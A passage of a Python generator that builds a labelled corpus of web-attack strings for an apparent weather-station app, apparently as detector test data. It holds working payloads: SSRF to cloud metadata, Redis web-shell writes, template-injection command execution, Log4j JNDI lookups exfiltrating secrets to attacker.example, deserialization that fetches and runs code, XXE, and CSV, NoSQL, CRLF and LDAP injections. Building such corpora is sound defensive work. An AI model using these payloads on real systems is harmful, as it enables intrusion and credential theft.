    ("webhook-url-localhost-admin", "http://127.0.0.1:8080/admin/stations/delete?id=all"),
    ("feed-url-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("feed-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("feed-url-file-scheme", "file:///etc/wx/api_keys.yaml"),
    ("radar-image-url-loopback+alt-ip-decimal", "http://2130706433:8000/internal/metrics"),
    ("radar-image-url-loopback+alt-ip-hex", "http://0x7f000001/"),
    ("radar-image-url-loopback+alt-ip-octal", "http://0177.0.0.1:5000/"),
    ("radar-image-url-short-loopback", "http://127.1/server-status"),
    ("feed-url-zero-address", "http://0.0.0.0:9200/_cat/indices"),
    ("feed-url-ipv6-loopback-consul", "http://[::1]:8500/v1/agent/self"),
    ("radar-image-url-imds+ipv4-mapped-v6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("radar-image-url-imds+ipv4-mapped-hex", "http://[::ffff:a9fe:a9fe]/latest/user-data"),
    ("radar-image-url-imds+alt-ip-decimal", "http://2852039166/latest/meta-data/"),
    ("tile-source-userinfo-confusion", "https://tiles.wx-club.example@169.254.169.254/latest/meta-data/"),
    ("tile-source-fragment-confusion", "http://127.0.0.1:6379#@radar.wx-club.example/"),
    ("tile-source-backslash-confusion", "https://radar.wx-club.example\\@169.254.169.254/latest/meta-data/"),
    ("feed-url-dns-rebind", "http://169-254-169-254.rebind.attacker.example/latest/meta-data/"),
    ("feed-url-open-redirect-chain", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("webhook-url-kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-url-docker-socket-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("station-datasource-lan-router", "http://192.168.1.1/cgi-bin/luci"),
    ("station-datasource-actuator", "http://10.0.0.12:8080/actuator/env"),
    ("station-datasource-jenkins-script", "http://172.17.0.1:8080/script"),
    ("feed-url-elasticsearch-dump", "http://localhost:9200/_all/_search?q=*"),
    ("wms-proxy-url-param", "service=WMS&request=GetMap&layers=radar&url=http://127.0.0.1:8081/admin"),
    ("tile-template-imds", "http://169.254.169.254/latest/meta-data/{z}/{x}/{y}"),
    ("feed-url-ldap-scheme", "ldap://127.0.0.1:389/dc=wx,dc=internal??sub?(objectClass=*)"),
    ("feed-url-tftp-scheme", "tftp://198.51.100.3/wx.cfg"),
    ("grib-url-jar-scheme", "jar:http://attacker.example/x.jar!/data.grib2"),
    ("feed-url-netdoc-scheme", "netdoc:///etc/hosts"),
    ("radar-image-url-loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/"),
    ("radar-image-url-loopback+urlenc-host", "http://%31%32%37%2e%30%2e%30%2e%31:6379/"),
    ("radar-image-url-loopback+alt-ip-mixed", "http://0x7f.0.0.1/"),
    ("radar-image-url-loopback+zero-padded", "http://127.000.000.001/admin"),
    ("feed-url-ipv6-unspecified", "http://[::]:80/"),
    ("webhook-json-imds-token", "{\"webhook\": \"http://169.254.169.254/latest/api/token\", \"method\": \"PUT\"}"),
    ("report-pdf-iframe-imds", "<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=800 height=600></iframe>"),
    ("station-datasource-port-probe", "http://10.0.0.1:22/"),
    ("feed-url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20wx%0D%0AMAIL%20FROM%3A%3Cops%40wx.example%3E%0D%0ARCPT%20TO%3A%3Cx%40attacker.example%3E%0D%0ADATA%0D%0Aexfil%0D%0A.%0D%0AQUIT%0D%0A"),
    ("grib-path-unc-smb", "\\\\203.0.113.12\\share\\gfs.t12z.pgrb2.0p25.f000"),
    ("plain-aws-imds", "http://169.254.169.254/latest/meta-data/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost-admin", "http://localhost:8080/admin"),
    ("plain-file-passwd", "file:///etc/passwd"),
    ("plain-gopher-redis", "gopher://127.0.0.1:6379/_INFO"),
]

_SS_SCHEME = ["http://", "https://"]
_SS_HOST = ["127.0.0.1", "localhost", "169.254.169.254", "10.0.0.5", "172.16.0.10",
            "192.168.0.20", "[::1]", "metadata.google.internal", "0.0.0.0"]
_SS_PORTPATH = [":8080/admin", ":6379/", "/latest/meta-data/hostname", ":9200/_cat/indices",
                ":2379/v2/keys", ":8500/v1/kv/?recurse", ":5984/_all_dbs", ":15672/api/users"]


def t_ssrf(rng):
    return ("radar-image-url-internal", rng.choice(_SS_SCHEME) + rng.choice(_SS_HOST) + rng.choice(_SS_PORTPATH))


# ---------------------------------------------------------------------------
# code -- SSTI, expression languages, deserialization, XXE, JNDI lookups,
#         prototype pollution, CSV formulas
# ---------------------------------------------------------------------------
CODE = [
    ("warning-template-jinja2-globals", "Gale warning for {{ region }} {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("warning-template-jinja2-config", "Valid until {{ config.items() }}"),
    ("forecast-text-jinja2-lipsum", "Highs near {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }} °C"),
    ("warning-template-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("warning-template-jinja2-loop-catch-warnings", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("warning-template-jinja2-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("station-card-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("station-card-twig-undefined-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("bulletin-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("bulletin-velocity-runtime", "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\").getRuntime())$rt.exec(\"touch /tmp/v\")"),
    ("spotter-note-erb-backtick", "Hail report <%= `id` %>"),
    ("spotter-note-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("station-card-smarty-system", "{system('id')}"),
    ("forecast-text-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("radar-view-name-thymeleaf-preprocess", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"),
    ("alert-rule-spel-getenv", "#{T(java.lang.System).getenv()}"),
    ("station-param-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("forecast-text-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("bulletin-mako-module-os", "${self.module.cache.util.os.system('id')}"),
    ("bulletin-tornado-import", "{% import subprocess %}{{ subprocess.check_output(['id']) }}"),
    ("warning-template-django-debug", "Amber wind warning {% debug %}"),
    ("station-card-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id').toString()}"),
    ("station-card-ejs-exec", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("station-card-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("bulletin-razor-process-start", "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"); }"),
    ("station-name-log4j-jndi", "${jndi:ldap://attacker.example:1389/wx}"),
    ("metar-text-log4j-jndi-rmi", "METAR EGLL 121350Z ${jndi:rmi://198.51.100.9:1099/obj} 9999 FEW030"),
    ("station-name-log4j+lower-lookup", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://x.attacker.example/a}"),
    ("spotter-name-log4j+default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://dns.attacker.example/p}"),
    ("station-name-log4j-env-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.example/x}"),
    ("user-agent-log4j-sys-exfil", "WxClient/2.1 ${jndi:ldap://${sys:java.version}.v.attacker.example/a}"),
    ("station-name-log4j+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fz%7D"),
    ("metar-remark-log4j+env-default", "RMK AO2 ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/n}"),
    ("model-cache-pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("model-cache-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("station-import-pyyaml-apply", "!!python/object/apply:os.system ['curl -s http://attacker.example/y | sh']"),
    ("station-import-pyyaml-new", "station: EGLL\nnotes: !!python/object/new:subprocess.check_output [['id']]"),
    ("radar-cache-php-object", "O:10:\"RadarCache\":2:{s:4:\"path\";s:28:\"/var/www/html/uploads/wx.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("station-photo-phar-wrapper", "phar:///var/www/uploads/radar_legend.jpg/x"),
    ("api-json-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/Exploit\", \"autoCommit\": true}]"),
    ("api-json-fastjson-autotype", "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"rmi://198.51.100.9:1099/wx\", \"autoCommit\": true}"),
    ("api-json-jsonnet-typename", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"MethodParameters\": {\"$type\": \"System.Collections.ArrayList, mscorlib\", \"$values\": [\"cmd.exe\", \"/c whoami\"]}, \"ObjectInstance\": {\"$type\": \"System.Diagnostics.Process, System\"}}"),
    ("station-import-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml-payload.jar\"]]]]"),
    ("api-json-node-serialize-iife", "{\"station\": \"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("obs-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE obs [<!ENTITY stn SYSTEM \"file:///etc/passwd\">]>\n<observation><station>&stn;</station><temp>14.2</temp></observation>"),
    ("cap-xml-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE alert [<!ENTITY % remote SYSTEM \"http://attacker.example/cap.dtd\"> %remote;]><alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\"><identifier>x</identifier></alert>"),
    ("obs-xml-xxe-php-filter", "<!DOCTYPE r [<!ENTITY src SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/html/config.php\">]><r>&src;</r>"),
    ("obs-xml-xinclude", "<obs xmlns:xi=\"http://www.w3.org/2001/XInclude\"><remark><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></remark></obs>"),
    ("radar-legend-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"300\" height=\"40\"><text x=\"5\" y=\"20\">&h;</text></svg>"),
    ("metar-xml-entity-expansion", "<!DOCTYPE m [<!ENTITY a \"rainrainrainrain\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><metar>&f;</metar>"),
    ("taf-xml-xxe-imds", "<!DOCTYPE x [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><taf>&m;</taf>"),
    ("api-json-proto-pollution", "{\"station\": \"EGLL\", \"__proto__\": {\"isAdmin\": true}}"),
    ("api-json-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("query-proto-pollution-ejs-gadget", "units=metric&__proto__[outputFunctionName]=_x;process.mainModule.require('child_process').execSync('id');//"),
    ("query-proto-pollution-nested", "filter[__proto__][polluted]=yes&station=EGLL"),
    ("api-json-proto-lodash-sourceurl", "{\"layout\": {\"__proto__\": {\"sourceURL\": \"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}}"),
    ("csv-export-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2, \"Download station data\")"),
    ("csv-export-dde-cmd", "=cmd|' /C calc'!A0"),
    ("station-name-csv-dde-at", "@SUM(1+1)*cmd|' /C powershell -c iwr http://attacker.example/x'!A0"),
    ("spotter-name-csv-webservice", "+WEBSERVICE(\"http://attacker.example/c?v=\"&C3)"),
    ("obs-note-csv-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("station-name-csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\", B2, C2), \"//x\")"),
    ("derived-var-python-eval", "(t_c * 9/5) + 32 if not __import__('os').system('id') else 0"),
    ("chart-formula-node-eval", "require('child_process').execSync('id').toString()"),
    ("chart-formula-node-vm-escape", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd', 'utf8')"),
    ("alert-rule-mvel-processbuilder", "new java.lang.ProcessBuilder({'id'}).start()"),
    ("alert-rule-groovy-execute", "tmax > 30 && 'id'.execute().text"),
    ("warning-text-python-format-globals", "Wind {obs.__init__.__globals__[CONFIG][SECRET_KEY]} kt"),
    ("bulletin-ruby-interpolation", "Tmax #{`cat /etc/passwd`} °C"),
    ("api-json-jndi+unicode-escape", "{\"expr\": \"\\u0024{jndi:ldap://attacker.example/u}\"}"),
    ("plain-jndi-ldap", "${jndi:ldap://attacker.example/a}"),
    ("plain-jinja2-config", "{{config}}"),
    ("plain-erb-system", "<%= system('id') %>"),
    ("plain-jinja2-builtins-import", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-proto-pollution", "{\"__proto__\": {\"admin\": true}}"),
    ("plain-csv-formula", "=2+5+cmd|' /C calc'!A0"),
]

_CO_CTX = [("station-name", "Station {p}"), ("metar-remark", "METAR EDDF 121350Z 25010KT 9999 SCT040 RMK {p}"),
           ("spotter-name", "{p}"), ("user-agent", "WxStationBridge/1.4 (+{p})"),
           ("warning-area", "Kreis Nordfriesland {p}")]
_CO_JNDI = ["ldap", "ldaps", "rmi", "dns", "iiop"]
_CO_HOST = ["attacker.example", "203.0.113.31:1389", "198.51.100.9:1099", "j.attacker.example"]
_CO_SSTI = ["{{ cycler.__init__.__globals__.os.popen('%s').read() }}",
            "{{ joiner.__init__.__globals__.os.popen('%s').read() }}",
            "${T(java.lang.Runtime).getRuntime().exec('%s')}",
            "<%%= `%s` %%>",
            "#{global.process.mainModule.require('child_process').execSync('%s')}"]
_CO_CMD = ["id", "uname -a", "cat /etc/hostname", "curl -s attacker.example/t|sh", "whoami"]


def t_code(rng):
    ctx, fmt = rng.choice(_CO_CTX)
    if rng.random() < 0.5:
        p = "${jndi:%s://%s/%s}" % (rng.choice(_CO_JNDI), rng.choice(_CO_HOST),
                                    rng.choice(["a", "wx", "o", "Exploit", "x%d" % rng.randint(1, 99)]))
        return (ctx + "-log4j-jndi", fmt.format(p=p))
    p = rng.choice(_CO_SSTI) % rng.choice(_CO_CMD)
    return (ctx + "-ssti", fmt.format(p=p))


# ---------------------------------------------------------------------------
# nosqli -- filters built from JSON bodies / query strings (Mongo, Couch, Neo4j...)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("station-filter-ne", "{\"station\": {\"$ne\": null}}"),
    ("observer-login-ne", "{\"username\": \"observer1\", \"password\": {\"$ne\": \"\"}}"),
    ("observer-login-qs-ne", "username=admin&password[$ne]=x"),
    ("observer-login-qs-regex-gt", "username[$regex]=^adm&password[$gt]="),
    ("station-filter-regex-owner", "{\"icao\": {\"$regex\": \".*\"}, \"owner\": {\"$gt\": \"\"}}"),
    ("station-filter-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("station-where-js-concat-blind", "EGLL' || this.api_key.match(/^k/) || '"),
    ("station-filter-or-empty", "{\"station\": \"EGLL\", \"$or\": [{}, {\"owner\": \"nobody\"}]}"),
    ("station-filter-expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(5000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("api-pipeline-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("station-filter-qs-ne+urlenc", "station%5B%24ne%5D=x"),
    ("observer-login-qs-regex+urlenc", "username=admin&password[%24regex]=^a.*"),
    ("station-filter-exists-gt", "{\"hours\": {\"$gt\": -1}, \"api_key\": {\"$exists\": true}}"),
    ("station-cypher-match-users", "EGLL' OR 1=1 WITH 1 AS x MATCH (u:User) RETURN u.email, u.apiKey //"),
    ("station-cypher-load-csv-exfil", "EGLL'}) MATCH (u:Observer) LOAD CSV FROM 'http://attacker.example/x?k=' + u.apiKey AS l RETURN l //"),
    ("couch-mango-selector-all", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"password\"]}"),
    ("search-lucene-exists-injection", "station:EGLL OR _exists_:api_key"),
    ("cache-key-redis-inline", "EGLL\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename wx.php\r\nSET k \"<?php system($_GET[c]); ?>\"\r\nSAVE\r\n"),
    ("station-filter-where-role", "{\"$where\": \"this.role == 'admin' || this.password.length > 0\"}"),
    ("observer-login-in-list", "{\"username\": {\"$in\": [\"admin\", \"root\", \"chief\"]}, \"password\": {\"$gt\": \"\"}}"),
    ("station-filter-where+unicode-escape", "{\"\\u0024where\": \"this.api_key.length > 0\"}"),
    ("plain-mongo-gt-empty", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("plain-where-sleep-breakout", "';sleep(5000);'"),
]

_NQ_FIELD = ["station", "owner", "api_key", "password", "email", "role"]
_NQ_OP = ["{\"$ne\": \"%s\"}", "{\"$gt\": \"%s\"}", "{\"$regex\": \"^%s\"}", "{\"$nin\": [\"%s\"]}"]


def t_nosqli(rng):
    f = rng.choice(_NQ_FIELD)
    op = rng.choice(_NQ_OP) % rng.choice(["", "a", "x", "EGLL", "0"])
    return ("api-json-operator-injection", "{\"%s\": %s, \"limit\": %d}" % (f, op, rng.choice([1, 10, 100, 1000])))


# ---------------------------------------------------------------------------
# crlf -- header, log line and mail header injection
# ---------------------------------------------------------------------------
CRLF = [
    ("export-filename-header-inject", "EGLL_2024.csv\r\nSet-Cookie: wxsession=attacker-fixed; Path=/"),
    ("radar-redirect-set-cookie+urlenc", "/radar?site=KTLX%0d%0aSet-Cookie:%20wxsession=fixated"),
    ("radar-redirect-response-split+urlenc", "KTLX%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("station-id-log-forge", "EGLL\n2024-06-12T13:50:02Z INFO auth user=admin action=api_key_rotate result=success"),
    ("json-log-field-inject", "KJFK\",\"level\":\"info\",\"msg\":\"admin password reset ok\",\"user\":\"admin"),
    ("alert-subscribe-email-bcc", "spotter@wx-club.example\r\nBcc: everyone@attacker.example"),
    ("mail-subject-body-inject", "Hail report\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/login>Verify your spotter account</a>"),
    ("mail-body-smtp-smuggling", "Thanks for the report\r\n.\r\nMAIL FROM:<ops@wx.example>\r\nRCPT TO:<victim@wx.example>\r\nDATA\r\nFrom: ops@wx.example\r\nSubject: Password reset\r\n\r\nReset here: https://attacker.example/reset\r\n.\r\n"),
    ("lang-param-location+urlenc", "de%0d%0aLocation:%20https://attacker.example/"),
    ("forecast-redirect-cookie+unicode-crlf", "/forecast?loc=EGLL%E5%98%8A%E5%98%8DSet-Cookie:%20wx=pwn"),
    ("spotter-location-syslog-forge", "Norman OK\r\n<13>Jun 12 13:50:00 wx-api sshd[1234]: Accepted password for root from 203.0.113.5 port 51514 ssh2"),
    ("station-header-xff-inject", "EGLL\nX-Forwarded-For: 127.0.0.1"),
    ("cors-origin-header-inject", "https://wx-club.example\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("radar-proxy-request-split", "KTLX HTTP/1.1\r\nHost: internal-api\r\n\r\nGET /admin/keys HTTP/1.1\r\nHost: internal-api\r\n\r\n"),
    ("alert-email-cc+urlenc", "ops@wx.example%0ACc:%20list@attacker.example"),
    ("export-filename-cookie+double-urlenc", "obs.csv%250d%250aSet-Cookie:%2520a=b"),
    ("log-ansi-escape-inject", "EGLL\x1b[2J\x1b[1;31mSYSTEM COMPROMISED, call +1-555-0100\x1b[0m"),
    ("observer-log-audit-forge", "Obs 06Z ok\n[2024-06-12 06:00:01] AUDIT user=chief_forecaster approved=warning#4471 level=red"),
    ("metar-ingest-log-forge", "METAR EGLL 121350Z 24012KT 9999 FEW030 18/09 Q1016\r\n2024-06-12 13:50:05,112 WARN ingest: station EGKK decommissioned by admin"),
    ("radar-download-filename-body-inject", "radar_loop.gif\"\nContent-Type: text/html\n\n<script>alert(1)</script>"),
    ("query-lf-set-cookie+urlenc", "station=EGLL%0aSet-Cookie:session=attacker"),
    ("spotter-name-mail-reply-to", "Jen O'Brien\nReply-To: phish@attacker.example"),
    ("access-log-forge", "EGLL\n203.0.113.5 - admin [12/Jun/2024:13:50:00 +0000] \"POST /admin/purge HTTP/1.1\" 200 12"),
    ("alert-from-bcc+urlenc", "noreply@wx.example%0d%0aBcc:all@attacker.example"),
    ("csv-log-row-forge", "rain 2.4 mm\r\n2024-06-12,EGKK,admin,delete_all_obs,ok"),
    ("station-header-cache-poison", "EGLL\r\nX-Accel-Redirect: /internal/keys/"),
    ("plain-set-cookie+urlenc", "%0d%0aSet-Cookie:%20a=b"),
    ("plain-location-header", "\r\nLocation: https://attacker.example/"),
    ("plain-lf-header+urlenc", "foo%0aInjected-Header:1"),
]

_CR_STN = ["EGLL", "EDDF", "KJFK", "LFPG", "LSZH", "KDEN"]
_CR_LINE = ["{ts} INFO login ok user=admin ip=10.0.0.1", "{ts} WARN qc: all obs for {s} deleted by admin",
            "{ts} INFO warning#{n} cancelled by chief_forecaster", "{ts} ERROR disk full, ingest paused"]


def t_crlf(rng):
    ts = "2024-%02d-%02dT%02d:%02d:00Z" % (rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59))
    line = rng.choice(_CR_LINE).format(ts=ts, s=rng.choice(_CR_STN), n=rng.randint(1000, 9999))
    return ("station-id-log-forge", rng.choice(_CR_STN) + rng.choice(["\n", "\r\n"]) + line)


# ---------------------------------------------------------------------------
# ldap-xpath -- observer directory (LDAP filters) and station XML (XPath)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("observer-search-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("observer-login-ldap-and-true", "admin)(&)"),
    ("observer-search-ldap-or-objectclass", "jsmith)(|(objectClass=*)"),
    ("observer-search-ldap-group-enum", "*)(memberOf=cn=forecast-admins,ou=groups,dc=wx,dc=example"),
    ("observer-login-ldap-blind-password", "admin)(userPassword=a*"),
    ("observer-search-ldap-null-truncate+urlenc", "*)(telephoneNumber=*))%00"),
    ("observer-search-ldap-wildcard+urlenc", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("station-ldap-description-leak", "EGLL)(description=*secret*"),
    ("observer-search-ldap-attr-probe", "chief*)(mail=*"),
    ("station-xml-xpath-tautology", "EGLL' or '1'='1"),
    ("station-xml-xpath-union-node", "EGLL'] | //user/password | //*['"),
    ("station-xml-xpath-blind-root-name", "x' or name(/*[1])='stations' or 'a'='b"),
    ("station-xml-xpath-blind-substring", "EGLL' and substring(//observer[1]/password,1,1)='s' and '1'='1"),
    ("station-xml-xpath-count", "' or count(//observer)>0 or '"),
    ("station-xml-xpath-string-length", "EGLL' or string-length(//apikey[1])=32 or 'x'='y"),
    ("obs-xml-xpath-numeric", "1 or 1=1"),
    ("station-xml-xquery-doc-oob", "EGLL' or doc('http://attacker.example/x.xml') or '"),
    ("observer-xml-xpath-login-bypass", "admin' or '1'='1' or 'a'='a"),
    ("station-xml-xpath-all-text", "EGLL'] | //text() | //*['"),
    ("plain-ldap-wildcard", "*)(&"),
    ("plain-xpath-tautology", "' or 1=1 or ''='"),
]

_LX_NAME = ["admin", "chief", "obs", "spotter", "duty"]


def t_ldap_xpath(rng):
    return ("observer-login-ldap-blind-prefix", "%s*)(userPassword=%s*" % (
        rng.choice(_LX_NAME), "".join(rng.choice("abcdefghkmnpqrstuvwxyz0123456789") for _ in range(rng.randint(1, 3)))))


CATEGORIES = [
    # (category, literals, template, number of template values)
    ("sqli", SQLI, t_sqli, 5),
    ("xss", XSS, t_xss, 9),
    ("cmdi", CMDI, t_cmdi, 6),
    ("traversal", TRAVERSAL, t_traversal, 4),
    ("ssrf", SSRF, t_ssrf, 2),
    ("code", CODE, t_code, 2),
    ("nosqli", NOSQLI, t_nosqli, 3),
    ("crlf", CRLF, t_crlf, 3),
    ("ldap-xpath", LDAP_XPATH, t_ldap_xpath, 2),
]


def build():
    """Return (records, stats) with stats = [(category, n, n_literal)]."""
    rng = random.Random(SEED)
    seen = set()
    rows, stats = [], []
    for cat, lits, tmpl, n_tmpl in CATEGORIES:
        vals = []
        for cls, v in lits:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
            vals.append((cls, v))
        n_lit = len(vals)
        tries = 0
        while len(vals) < n_lit + n_tmpl:
            tries += 1
            if tries > 10000:
                raise SystemExit("template for %s cannot produce %d values" % (cat, n_tmpl))
            cls, v = tmpl(rng)
            if v in seen:
                continue
            seen.add(v)
            vals.append((cls, v))
        stats.append((cat, len(vals), n_lit))
        rows.extend((cat, cls, v) for cls, v in vals)
    records = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit("bad value in %s: %r" % (cat, v))
        records.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                        "label": "attack", "value": v})
    return records, stats


def _benign_values():
    """Values of the sibling benign corpus, to refuse any overlap."""
    here = str(Path(__file__).resolve().parent)
    sys.dont_write_bytecode = True
    if here not in sys.path:
        sys.path.insert(0, here)
    import make_benign  # noqa: E402  (sibling generator, standard library only)
    recs, _ = make_benign.build()
    return {r["value"] for r in recs}


def main():
    records, stats = build()
    benign = _benign_values()
    clash = [r["value"] for r in records if r["value"] in benign]
    if clash:
        raise SystemExit("values present in both corpora: %r" % clash[:5])
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for r in records:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print("%-12s %3d  literals %3d" % (cat, n, n_lit))
    n_plain = sum(1 for r in records if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in records if "+" in r["class"])
    print("%-12s %3d  literals %3d (%.0f %%); plain- %d; encoded %d" % (
        "TOTAL", len(records), total_lit, 100.0 * total_lit / len(records), n_plain, n_enc))
    print("wrote", out)


if __name__ == "__main__":
    main()
